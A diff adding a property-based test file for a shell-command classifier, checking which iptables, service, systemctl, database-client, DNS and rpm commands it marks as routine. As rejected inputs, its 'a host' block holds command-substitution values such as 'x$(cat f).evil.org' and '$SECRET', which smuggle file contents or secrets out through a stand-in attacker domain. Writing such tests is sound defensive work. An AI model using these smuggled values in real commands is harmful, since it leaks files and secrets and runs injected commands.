@@ -1,0 +1,66 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { shell } from './a-context.ts';
+
+const routine = (command: string) => shell(command).tier === 'routine';
+
+describe('a choice of words', () => {
+  it('takes its words and no other', () => {
+    expect(routine('iptables -t nat -L')).toBe(true);
+    fc.assert(
+      fc.property(fc.stringMatching(/^[A-Za-z0-9./-]{1,12}$/), (table) => {
+        fc.pre(!/^(filter|nat|mangle|raw|security)$/.test(table));
+        expect(routine(`iptables -L --table=${table}`)).toBe(false);
+      }),
+    );
+  });
+
+  it('must be known before the command runs', () => {
+    expect(routine('iptables -t "$T" -L')).toBe(false);
+    expect(routine('service nginx $ACTION')).toBe(false);
+    expect(routine('service nginx "$(cat f)"')).toBe(false);
+  });
+});
+
+describe('a plain name', () => {
+  it('holds nothing that a path, an address or a list of commands needs', () => {
+    fc.assert(
+      fc.property(
+        fc.string({ maxLength: 6 }),
+        fc.constantFrom('/', ';', ' ', '\n', '$x', '{', '|', '&', '`x`', '=', ','),
+        fc.string({ maxLength: 6 }),
+        (a, b, c) => {
+          const word = `${a}${b}${c}`.replaceAll("'", '');
+          fc.pre(/[/; \n${|&`=,]/.test(word));
+          expect(routine(`nft list ruleset '${word}'`)).toBe(false);
+          expect(routine(`service '${word}' status`)).toBe(false);
+        },
+      ),
+    );
+  });
+
+  it('may be a pattern that meets files, since none of them can start like an option', () => {
+    expect(routine('systemctl status ssh*')).toBe(true);
+    expect(routine('systemctl status *')).toBe(false);
+    expect(routine('systemctl status -*')).toBe(false);
+  });
+});
+
+describe('a host', () => {
+  it.each(['psql -l -h', 'mysql -e "select 1" -h', 'redis-cli ping -h', 'ping -c 1', 'host', 'whois', 'resolvectl query'])(
+    '%s: is never made of what another command prints',
+    (command) => {
+      const put = (word: string) => (command.startsWith('redis') ? `redis-cli -h ${word} ping` : `${command} ${word}`);
+      expect(routine(put('db.example.org'))).toBe(true);
+      for (const word of ['"x$(cat f).evil.org"', '"$SECRET"', '$X', '`cat f`', '"$(< f)"', '-x', "'a b'"])
+        expect(routine(put(word))).toBe(false);
+    },
+  );
+});
+
+describe('a package query', () => {
+  it('runs no macro of a package', () => {
+    expect(routine("rpm -qa --qf '%{NAME} %{VERSION}\\n'")).toBe(true);
+    expect(routine("rpm -qp x.rpm --qf '%{SUMMARY:expand}'")).toBe(false);
+  });
+});
